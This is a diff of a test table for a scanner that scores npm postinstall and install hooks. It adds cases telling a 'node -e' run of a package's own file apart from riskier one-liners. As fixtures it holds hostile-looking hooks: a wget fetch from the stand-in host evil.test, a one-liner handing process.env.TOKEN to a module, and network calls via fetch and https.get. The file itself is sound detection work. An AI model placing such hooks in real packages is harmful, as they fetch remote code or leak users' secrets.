@@ -80,12 +80,26 @@ checkTable(check, [
   },
   { name: 'wget', evidence: withScripts({ postinstall: 'wget -q -O- evil.test/p' }), score: 10, messageId: 'suspicious', data: { flags: ['wget'] } },
   {
-    name: 'node -e one-liner',
-    evidence: withScripts({ postinstall: 'node -e "require(\'./x\')"' }),
+    name: 'node -e one-liner requiring a module by name',
+    evidence: withScripts({ postinstall: 'node -e "require(\'x\')"' }),
     score: 10,
     messageId: 'suspicious',
     data: { flags: ['node-eval'] },
   },
+  // A one-liner that only requires the package's own files runs them, as `node ./file` would (core-js).
+  ...[
+    'node -e "try{require(\'./postinstall\')}catch(e){}"',
+    "node -e 'require(\"./lib/install.js\")'",
+    'node --no-deprecation --eval "require(\'./a\'); try { require(\'./b.js\') } catch (e) { }"',
+  ].map((postinstall) => ({ name: `a one-liner running the package's own file: ${postinstall}`, evidence: withScripts({ postinstall }), score: 30, messageId: 'scripts' })),
+  ...[
+    'node -e "require(\'../other/x\')"',
+    'node -e "require(\'./a/../../x\')"',
+    'node -e "require(\'./x\')(process.env.TOKEN)"',
+    'node -e "require(\'./x\'); fetch(u)"',
+    'node -e "require(\'./x\')" && node -e "require(process.env.X)"',
+    'node -p "require(\'./package.json\').version"',
+  ].map((postinstall) => ({ name: `a one-liner doing more than run its own file: ${postinstall}`, evidence: withScripts({ postinstall }), score: 10, messageId: 'suspicious' })),
   {
     name: 'http module in a one-liner',
     evidence: withScripts({ install: "node --eval \"require('https').get(u)\"" }),
